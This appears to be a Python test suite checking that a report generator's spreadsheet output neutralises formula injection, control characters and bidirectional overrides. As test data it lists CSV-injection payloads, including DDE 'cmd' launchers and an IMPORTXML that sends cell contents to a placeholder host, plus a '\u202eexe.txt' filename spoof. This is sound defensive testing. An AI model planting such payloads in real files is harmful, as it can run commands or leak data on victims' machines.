"""Hostile text through the workbook: it stays text, reads back as typed, breaks nothing."""

from __future__ import annotations

import dataclasses
import zipfile

import pytest
from conftest import write_config, write_csv
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from packhelpers import run
from xlsx_support import OUR_FORMULA, build_workbooks, cells, convert_to_pdf, table

from reportgen.inventory.load import InventoryRow, ResolvedRow
from reportgen.render.xlsx import write_xlsx
from reportgen.render.xlsx_cells import (
    MAX_CELL_CHARS,
    TRUNCATION_MARKER,
    plain_row,
    safe_text,
)
from reportgen.render.xlsx_style import CellMaker, header_text

# OWASP's CSV-injection examples and relatives, each as a user could type it.
PAYLOADS = [
    '=HYPERLINK("http://x","y")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
]

CONFIG = """\
customer:
  name: "=1+1 & Sons"
frameworks: [soc2]
inventory:
  path: inventory.csv
raci:
  roles: [Cloud Platform, "@SUM(1+1)", Compliance]
  accountable: "@SUM(1+1)"
  responsible:
    customer-data: Cloud Platform
    platform-application: Cloud Platform
    operating-system: Cloud Platform
    network-configuration: Cloud Platform
    firewall-configuration: Cloud Platform
    client-side-encryption: Cloud Platform
    server-side-encryption: Cloud Platform
    network-traffic-protection: Cloud Platform
    customer-iam: "@SUM(1+1)"
    organization: Compliance
  informed: [Compliance]
overrides:
  - service: ec2
    layer: operating-system
    owner: third-party
    party: "+cmd|' /C calc'!A0"
    justification: '=HYPERLINK("http://x","y") patches the fleet'
output:
  classification: "-2+3"
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    directory = tmp_path_factory.mktemp("hostile")
    header = ["Service", "Resource ID", "Account", "Region", "Environment", "Owner", "Notes"]
    body = [["Amazon EC2", "i-1", "111122223333", "eu-west-1", "production", "Cloud Platform", ""]]
    for payload in PAYLOADS:
        # In every free-text column of a resolved row, and as an unknown service.
        body.append(["Amazon S3", payload, payload, payload, payload, payload, payload])
        body.append([payload, "r", "", "", "", "", ""])
    body.append(["S3", "ctrl", "", "", "", "", "bell\x07and\x1bescape\x0b"])
    body.append(["S3", "emoji", "", "", "", "", "😀" * 20_000])  # 40,000 UTF-16 units
    write_csv(directory / "inventory.csv", [header, *body])
    write_config(directory, CONFIG)
    return build_workbooks(directory / "reportgen.yaml", directory / "out")["soc2"]


@pytest.fixture(scope="module")
def hostile_book(hostile):
    return hostile.open()


def test_no_formula_anywhere_but_our_counts(hostile_book):
    for sheet, cell in cells(hostile_book):
        if cell.data_type == "f":
            assert sheet == "Summary" and OUR_FORMULA.match(cell.value), (sheet, cell.value)


def test_inventory_payloads_read_back_as_typed_with_the_quote_prefix(hostile_book):
    header, body = table(hostile_book["Inventory"])
    ws = hostile_book["Inventory"]
    found = {}
    for number, row in enumerate(body, start=2):
        if row[header.index("Resource")] in PAYLOADS:
            payload = row[header.index("Resource")]
            for name in ("Resource", "Account", "Region", "Environment", "Owner", "Notes"):
                cell = ws.cell(number, header.index(name) + 1)
                assert (cell.value, cell.data_type) == (payload, "s"), (name, cell.value)
                assert cell.quotePrefix, (name, payload)
            found[payload] = True
    assert set(found) == set(PAYLOADS)


def test_unknown_service_payloads_listed_as_text(hostile_book):
    header, body = table(hostile_book["Unresolved"])
    assert {row[header.index("Value")] for row in body} == set(PAYLOADS)


def test_config_payloads_stay_text_everywhere_they_appear(hostile_book):
    raci_header, _ = table(hostile_book["RACI"])
    assert "@SUM(1+1)" in raci_header
    summary = [c for _, c in cells(hostile_book) if c.parent.title == "Summary"]
    assert any(c.value == "=1+1 & Sons" and c.quotePrefix for c in summary)
    assert any(c.value == "-2+3" and c.quotePrefix for c in summary)  # classification
    layers = table(hostile_book["Services x Layers"])
    ec2 = next(row for row in layers[1] if row[0] == "Amazon EC2")
    assert "Third party (+cmd|' /C calc'!A0) *" in ec2
    assert any('=HYPERLINK("http://x","y") patches' in str(v) for v in ec2)


def test_header_and_footer_escape_the_ampersand(hostile_book):
    ws = hostile_book["RACI"]
    assert "=1+1 && Sons" in ws.oddHeader.left.text
    assert "-2+3" in ws.oddHeader.right.text


def test_forbidden_characters_removed_and_long_text_cut(hostile_book):
    header, body = table(hostile_book["Inventory"])
    notes = {row[header.index("Resource")]: row[header.index("Notes")] for row in body}
    assert notes["ctrl"] == "bellandescape"
    cut = notes["emoji"]
    assert cut.endswith(TRUNCATION_MARKER)
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
    assert cut == "😀" * 16_377 + TRUNCATION_MARKER


def test_an_oversized_value_from_anywhere_is_cut_not_fatal(hostile, tmp_path):
    """The reader refuses cells over 32,767 characters; the writer must not rely on that."""
    job = dataclasses.replace(hostile.job, folder=tmp_path)
    inventory = dataclasses.replace(job.inventory, rows=list(job.inventory.rows))
    row = InventoryRow("Sheet", 99, "S3", "A (Service)", resource="huge", notes="x" * 40_000)
    inventory.rows.append(ResolvedRow(row, "s3", "name"))
    job.inventory = inventory
    [path] = write_xlsx(job)
    header, body = table(load_workbook(path)["Inventory"])
    huge = next(r for r in body if r[header.index("Resource")] == "huge")
    notes = huge[header.index("Notes")]
    assert len(notes) == MAX_CELL_CHARS and notes.endswith(TRUNCATION_MARKER)


@pytest.mark.slow
def test_libreoffice_prints_the_payloads_as_text(hostile, tmp_path):
    pdf = convert_to_pdf(hostile.path, tmp_path)
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert '=HYPERLINK("http://x","y")' in text  # shown as typed, not evaluated to "y"
    assert "=1+1 & Sons" in text
    assert "@SUM(1+1)" in text


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_quoted(prefix):
    assert safe_text(f"{prefix}1+1") == (f"{prefix}1+1", True)
    assert not plain_row(["ok", f"{prefix}1+1"])


def test_plain_text_is_untouched():
    for text in ("Amazon S3", "a=b", "x-1", "", "naïve café", "line\nbreak", "tab\tinside"):
        assert safe_text(text) == (text, False)


def test_truncation_counts_utf16_units():
    assert safe_text("a" * MAX_CELL_CHARS) == ("a" * MAX_CELL_CHARS, False)
    text, _ = safe_text("a" * (MAX_CELL_CHARS + 1))
    assert len(text) == MAX_CELL_CHARS and text.endswith(TRUNCATION_MARKER)
    astral, _ = safe_text("𝄞" * 20_000)
    units = len(astral.encode("utf-16-le")) // 2
    assert MAX_CELL_CHARS - 1 <= units <= MAX_CELL_CHARS  # as much as fits, no more
    assert astral == "𝄞" * 16_377 + TRUNCATION_MARKER


def test_header_text_doubles_ampersands_and_drops_control_characters():
    assert header_text("A&B\x07 Ltd") == "A&&B Ltd"
    assert header_text("x" * 100, limit=10) == "x" * 9 + "…"
    assert header_text("&" * 100, limit=10) == "&&" * 4 + "…"  # the cut counts the doubling
    assert header_text("\U0001f600" * 100, limit=10) == "\U0001f600" * 4 + "…"  # UTF-16 units
    assert header_text("x" * 10, limit=10) == "x" * 10


def test_a_header_of_ampersands_stays_within_excels_255_characters(tmp_path):
    """Fourteenth pass: names of ampersands, cut first and doubled after, made a 315-character
    page header, past the 255 Excel allows (it reports the workbook as needing repair)."""
    import re
    import zipfile

    from reportgen.render.xlsx_style import PrintInfo, print_setup

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("RACI")
    info = PrintInfo("&" * 300, "&" * 300, "&" * 300, "&" * 300)
    print_setup(ws, info)
    ws.append(["x"])
    wb.save(tmp_path / "book.xlsx")
    xml = zipfile.ZipFile(tmp_path / "book.xlsx").read("xl/worksheets/sheet1.xml").decode()
    parts = dict(re.findall(r"<(oddHeader|oddFooter)>(.*?)</\1>", xml))
    assert set(parts) == {"oddHeader", "oddFooter"}
    for text in parts.values():
        assert len(text.replace("&amp;", "&")) <= 255, text


@given(st.text())
def test_any_text_makes_a_cell_openpyxl_accepts_and_never_a_formula(text):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    made = CellMaker()(ws, text)
    if made is None:
        assert text == "" or not safe_text(text).text
        return
    value = made if isinstance(made, str) else made.value
    assert getattr(made, "data_type", "s") == "s"
    cleaned = safe_text(text)
    assert value == cleaned.text
    assert getattr(made, "quotePrefix", False) == cleaned.quoted
    # The fast path agrees: a text it would write bare needs no cleaning or quoting.
    if plain_row([text]):
        assert cleaned == (text, False)


# DEL, C1 controls (U+009B is CSI, U+0085 a line break), bidirectional marks, embeddings,
# overrides and isolates, the Arabic letter mark, the line and paragraph separators.
INVISIBLE = (
    "\x7f\x85\x9b\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e"
    "\u2066\u2067\u2068\u2069"
)


def test_the_workbook_removes_what_the_terminal_and_pdf_show_as_escapes(tmp_path):
    """Fourteenth pass: the workbook kept DEL, C1 controls and bidirectional overrides from
    the inventory and the config, in cells, the page header and the document title: a file
    name '\\u202eexe.txt' read reversed in the Inventory sheet."""
    write_csv(
        tmp_path / "inv.csv",
        [["Service", "Resource ID", "Account", "Notes"],
         ["Amazon S3", "\u202eexe.txt", "111122223333", f"a{INVISIBLE}b \x9b31m"]],
    )  # fmt: skip
    config = 'customer:\n  name: "Acme \\u202e\\x85 Co"\nframeworks: [pci-dss]\n'
    write_config(tmp_path, config + "inventory:\n  path: inv.csv\n")
    out = tmp_path / "out"
    run("build", "--config", tmp_path / "reportgen.yaml", "--out", out, "--format", "xlsx")
    [path] = (out / "pci-dss").glob("*.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            assert not set(text) & set(INVISIBLE), name
    book = load_workbook(path)
    header, body = table(book["Inventory"])
    row = next(r for r in body if r[header.index("Service")] == "Amazon S3")
    assert row[header.index("Resource")] == "exe.txt"
    assert row[header.index("Notes")] == "ab 31m"
    assert book.properties.title.startswith("Acme  Co: ")
    assert book["Inventory"].oddHeader.left.text.startswith("Acme Co · ")


def test_text_that_spells_a_character_as_x_hhhh_stays_that_text(tmp_path):
    """Sixteenth pass: Excel and LibreOffice read '_x001B_' in a cell as ESC (and
    '_x003D_' as '=', no quote prefix then): such text is stored with its underscore
    escaped, and a spreadsheet app shows it as typed."""
    import subprocess
    import zipfile

    from xlsx_support import soffice

    typed = ["_x001B_[2J", '_x003D_HYPERLINK("http://x")', "_x202E_evil", "plain _x0041_"]
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    for text in typed:
        ws.append([CellMaker()(ws, text)])
    book = tmp_path / "book.xlsx"
    wb.save(book)
    with zipfile.ZipFile(book) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if "sheet" in n)
    assert "_x005F_x001B_[2J" in xml and "_x005F_x003D_HYPERLINK" in xml
    out = tmp_path / "csv"
    subprocess.run([soffice(), f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--headless",
                    "--convert-to", "csv", "--outdir", str(out), str(book)],
                   capture_output=True, timeout=300, check=True,
                   env={**__import__("os").environ, "HOME": str(tmp_path)})  # fmt: skip
    shown = (out / "book.csv").read_text(encoding="utf-8").splitlines()
    assert [line.strip('"').replace('""', '"') for line in shown] == typed
